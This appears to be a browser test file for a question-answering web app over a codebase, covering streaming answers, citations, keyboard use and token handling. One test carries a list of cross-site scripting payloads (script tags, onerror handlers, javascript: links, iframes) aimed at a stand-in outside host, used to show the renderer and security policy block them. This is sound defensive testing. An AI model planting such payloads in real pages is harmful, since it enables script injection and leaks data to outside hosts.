"""The web page in a real Chromium, against the real application."""

from __future__ import annotations

import asyncio
import json

from markdown_it import MarkdownIt

from server.engine import EngineError
from server.generation import GenerationError

ANSWER = "document.querySelector('.answer')"
PANEL = "document.querySelector('.passage')"
FOCUS = "document.activeElement"


async def ask(tab, text: str = "What is the total of all prices in cents?") -> None:
    await tab.until(f"{FOCUS}.id === 'question'")
    await tab.type(text)
    await tab.press("Enter")


async def is_over(tab, count: int = 1) -> None:
    await tab.until(f"document.querySelectorAll('.answer[aria-busy=false] .below .row').length === {count}")


async def test_an_answer_streams_in_and_is_rendered_with_its_facts(site, tab):
    more = asyncio.Event()
    site.model.script = ["The **total** is ", more, "in\n\n```python\ndef total():\n    return 1\n```\n\nas [1] says."]
    await tab.go(site.entrance)
    await ask(tab)
    await tab.until(f"{ANSWER}?.querySelector('.text strong')?.textContent === 'total'")
    assert await tab.js(f"{ANSWER}.dataset.state") == "writing"
    assert await tab.js("document.querySelector('#send').textContent") == "Stop"
    more.set()
    await is_over(tab)
    assert await tab.js(f"{ANSWER}.querySelector('pre.code .k').textContent") == "def"
    assert await tab.js(f"{ANSWER}.querySelector('.citation').dataset.passage") == "1"
    line = await tab.js(f"{ANSWER}.querySelector('.freshness').textContent")
    assert line.startswith("commit c0ffee · index up to date · adapter 2026-01-01-0000-abc on smollm2-135m · ")
    lists = await tab.js("[...document.querySelectorAll('.sources summary')].map((one) => one.textContent)")
    assert lists == ["Sources (1)", "Also read (1)"]
    assert tab.faults == []


async def test_a_citation_opens_its_passage_with_its_lines(site, tab):
    await tab.go(site.entrance)
    await ask(tab)
    await is_over(tab)
    await tab.click(".text .citation")
    await tab.until(f"{PANEL}.querySelectorAll('.line').length === 4")
    assert await tab.js(f"{PANEL}.querySelector('h2').textContent") == "shop/cart.py:12-15"
    assert (
        await tab.js(f"{PANEL}.querySelector('.faint').textContent")
        == "run · checked: these lines stand there · at commit c0ffee"
    )
    lines = await tab.js(f"[...{PANEL}.querySelectorAll('.line')].map((line) => [line.dataset.line, line.textContent])")
    assert lines[0] == ["12", "def total(prices: list[Price]) -> int:"]
    assert lines[2] == ["14", "    # é <b> 1 €"]
    assert await tab.js(f"{PANEL}.querySelector('.line .k').textContent") == "def"
    await tab.click(".sources:nth-of-type(2) summary")
    await tab.click(".sources:nth-of-type(2) .source")
    await tab.until(f"{PANEL}.querySelector('h2').textContent === 'shop/price.py:3-4'")
    assert await tab.js(f"{PANEL}.querySelector('.faint').textContent") == "run · read, not cited"
    assert tab.faults == []


async def test_a_passage_that_changed_since_says_so(site, tab, stale):
    await tab.go(site.entrance)
    await ask(tab)
    await is_over(tab)
    assert "changed since" in await tab.js("document.querySelector('.source').textContent")
    assert "[1] is stale" in await tab.js("document.querySelector('.notice').textContent")


async def test_the_ways_to_answer_stand_side_by_side(site, tab):
    await tab.go(site.entrance)
    await tab.until(f"{FOCUS}.id === 'question'")
    for arm in ("base", "bare"):
        await tab.click(f"input[value={arm}]")
    await tab.click("#question")
    await ask(tab)
    await is_over(tab, 3)
    assert sorted(map(str, site.borrowed)) == ["None", "None", "none"]
    tops = await tab.js("[...document.querySelectorAll('.answer')].map((one) => one.getBoundingClientRect().top)")
    assert len(set(tops)) == 1
    facts = await tab.js(
        """[...document.querySelectorAll('.answer')].map((one) => [one.dataset.arm,
        one.querySelectorAll('.source').length, one.querySelector('.freshness').textContent.includes('no adapter')])"""
    )
    assert facts == [["service", 2, False], ["base", 2, True], ["bare", 0, False]]


async def test_without_an_adapter_the_base_model_is_not_offered_twice(site, tab):
    site.serving.adapter = None
    await tab.go(site.entrance)
    await tab.until("document.querySelector('input[value=base]')?.disabled")
    assert await tab.js("document.querySelector('#state').textContent") == "shop · smollm2-135m, no adapter"


async def test_stopping_an_answer_stops_the_model(site, tab):
    site.model.script = ["Much ", asyncio.Event()]
    await tab.go(site.entrance)
    await ask(tab)
    await tab.until(f"{ANSWER}?.querySelector('.text').textContent.trim() === 'Much'")
    await tab.press("Escape")
    await tab.until(f"{ANSWER}.dataset.state === 'stopped'")
    async with asyncio.timeout(5):
        while not site.model.stopped:
            await asyncio.sleep(0.01)
    assert await tab.js("document.querySelector('#send').textContent") == "Ask"


async def test_an_answer_that_breaks_off_keeps_its_text_and_says_why(site, tab):
    site.model.script = ["It is ", "in ", GenerationError("the engine broke off")]
    await tab.go(site.entrance)
    await ask(tab)
    await is_over(tab)
    assert await tab.js(f"{ANSWER}.querySelector('.arm').textContent") == "In service failed: the engine broke off"
    assert await tab.js(f"{ANSWER}.querySelector('.text').textContent.trim()") == "It is in"


async def test_without_an_engine_the_passages_are_shown(site, tab):
    site.failure = EngineError("it is starting")
    await tab.go(site.entrance)
    await ask(tab)
    await is_over(tab)
    assert "No model answers now (it is starting)" in await tab.js("document.querySelector('.notice').textContent")
    assert await tab.js("document.querySelectorAll('.sources[open] .source').length") == 2


async def test_a_follow_up_carries_the_conversation(site, tab):
    await tab.go(site.entrance)
    await ask(tab)
    await is_over(tab)
    await ask(tab, "And without tax?")
    await is_over(tab, 2)
    turns = [(turn.role, turn.content) for turn in site.model.seen[-1] if turn.role != "system"]
    assert turns[-3] == ("user", "What is the total of all prices in cents?")
    assert turns[-2] == ("assistant", "The total is the **sum** of all prices [1].")


async def test_hostile_markdown_does_nothing(site, tab, outside):
    hostile = HOSTILE.replace("OUTSIDE", outside.url)
    site.model.script = [hostile[at : at + 7] for at in range(0, len(hostile), 7)]
    await tab.call("Page.setBypassCSP", enabled=True)  # the renderer alone must hold
    await tab.go(site.entrance)
    await ask(tab)
    await is_over(tab)
    assert await tab.js("window.acted === undefined")
    plain = "P|BUTTON|CODE|PRE|SPAN|EM|STRONG|UL|LI|BR|BLOCKQUOTE|H[1-6]"
    elements = "[...document.querySelectorAll('.text *')]"
    strange = f"{elements}.filter((one) => !/^({plain})$/.test(one.tagName)).map((one) => one.outerHTML)"
    assert await tab.js(strange) == []
    assert outside.hits == []
    assert all(url.startswith((site.url, "about:", "data:")) for url in tab.asked)


# What a renderer that let HTML through would put into the page.
HOSTILE = """Look: <img src="OUTSIDE/image?secret" onerror="window.acted = 1"> and ![x](OUTSIDE/markdown?secret)

<script>window.acted = 1</script> <iframe src="OUTSIDE/frame"></iframe> <link rel="stylesheet" href="OUTSIDE/style">

<form action="OUTSIDE/form"><input name=a></form> <svg onload="window.acted = 1"></svg> <base href="OUTSIDE/">

[click](javascript:window.acted=1) [click](OUTSIDE/click) <OUTSIDE/auto> <video src="OUTSIDE/video" autoplay></video>

[1](javascript:window.acted=1) ![1](OUTSIDE/cited) [a][b]

[b]: OUTSIDE/defined "x"

```html" onmouseover="window.acted = 1
<img src="OUTSIDE/fenced">
```
"""


async def test_the_policy_alone_keeps_everything_from_outside_out(site, tab, outside):
    naive = MarkdownIt("commonmark", {"html": True}).render(HOSTILE.replace("OUTSIDE", outside.url))
    attempts = f"""(async () => {{
        const refused = new Set();
        document.addEventListener("securitypolicyviolation", (event) => refused.add(event.effectiveDirective));
        document.querySelector(".text").innerHTML = {json.dumps(naive)};
        const script = document.createElement("script");
        script.src = "{outside.url}/script";
        const inline = document.createElement("script");
        inline.textContent = "window.acted = 1";
        document.body.append(script, inline);
        await fetch("{outside.url}/fetch").catch(() => 0);
        await new Promise((resolve) => setTimeout(resolve, 300));
        document.querySelector(".text form")?.submit();
        await new Promise((resolve) => setTimeout(resolve, 300));
        return [[...refused].sort(), window.acted === 1];
    }})()"""
    await tab.go(site.entrance)
    await ask(tab)
    await is_over(tab)
    refused, acted = await tab.js(attempts)
    assert set(refused) >= {
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "media-src",
        "script-src-elem",
        "style-src-elem",
    }
    assert not acted
    assert outside.hits == []

    # The other arm: the same page with its policy off does reach outside, so the listener would have heard.
    await tab.call("Page.setBypassCSP", enabled=True)
    await tab.go(f"{site.url}/ui")
    await tab.until("document.querySelector('.kept') !== null")
    await tab.click(".kept")
    await is_over(tab)
    _, acted = await tab.js(attempts.replace('document.querySelector(".text form")?.submit();', ""))
    assert acted
    heard = {hit.split()[1].split("?")[0] for hit in outside.hits}
    assert heard >= {"/image", "/markdown", "/frame", "/style", "/video", "/script", "/fetch", "/cited"}


async def test_the_page_works_with_the_keyboard_alone(site, tab):
    async def tab_to(selector: str, shift: bool = False) -> None:
        for _ in range(40):
            await tab.press("Tab", shift)
            if await tab.js(f"{FOCUS}.matches({json.dumps(selector)})"):
                return
        raise AssertionError(f"{selector} is not in the tab order")

    await tab.go(site.entrance)
    await tab.until(f"{FOCUS}.id === 'question'")
    await tab_to("input[value=base]")
    await tab.press(" ")
    await tab.press("/")
    await ask(tab)
    await is_over(tab, 2)
    await tab_to(".citation", shift=True)
    ring = await tab.js(f"getComputedStyle({FOCUS}).outlineStyle")
    assert ring == "solid"
    await tab.press("Enter")
    await tab.until(f"{FOCUS}.id === 'passage-title'")
    await tab.press("Escape")
    await tab.until(f"{FOCUS}.matches('.citation') && {PANEL}.hidden")
    await tab_to("#to-nights", shift=True)
    await tab.press("Enter")
    await tab.until("document.querySelector('#in-service') !== null")
    assert await tab.js("document.querySelector('#to-nights').getAttribute('aria-current')") == "page"
    assert tab.faults == []


async def test_the_token_is_kept_for_the_tab_only_and_leaves_the_address(site, tab):
    await tab.go(site.entrance)
    await tab.until(f"{FOCUS}.id === 'question'")
    assert await tab.js("location.href") == f"{site.url}/ui"
    assert site.token not in await tab.js("JSON.stringify(localStorage)")
    assert all(site.token not in url for url in tab.asked if "#" not in url)
    await tab.call("Page.reload")
    await tab.until(f"{FOCUS}.id === 'question'")


async def test_without_the_right_token_the_page_says_how_to_come_by_it(site, tab):
    await tab.go(f"{site.url}/ui#token=wrong")
    await tab.sees("This page needs the workspace's token")
    await tab.click("#token")
    await tab.type(site.token)
    await tab.press("Enter")
    await tab.until(f"{FOCUS}.id === 'question'")


async def test_conversations_are_kept_in_this_browser_until_deleted(site, tab):
    await tab.go(site.entrance)
    await ask(tab)
    await is_over(tab)
    await tab.call("Page.reload")
    await tab.click(".kept")
    await tab.until(f"{ANSWER}?.querySelector('.text strong')?.textContent === 'sum'")
    await tab.click(".text .citation")
    await tab.until(f"{PANEL}.querySelectorAll('.line').length === 4")
    await tab.click(".history li button.quiet")
    await tab.until("document.querySelector('.empty') && !document.querySelector('.kept')")
    assert await tab.js("Object.values(localStorage).join('')") == "[]"


async def test_without_feedback_there_are_no_thumbs(site, tab):
    await tab.go(site.entrance)
    await ask(tab)
    await is_over(tab)
    assert await tab.js("document.querySelectorAll('.thumb').length") == 0


async def test_a_backend_that_is_gone_is_said_and_its_return_seen(site, tab):
    await tab.go(site.entrance)
    await tab.until(f"{FOCUS}.id === 'question'")
    await tab.call(
        "Network.emulateNetworkConditions", offline=True, latency=0, downloadThroughput=-1, uploadThroughput=-1
    )
    await tab.sees("The backend does not answer.")
    await tab.call(
        "Network.emulateNetworkConditions", offline=False, latency=0, downloadThroughput=-1, uploadThroughput=-1
    )
    await tab.until("document.querySelector('#told').hidden")
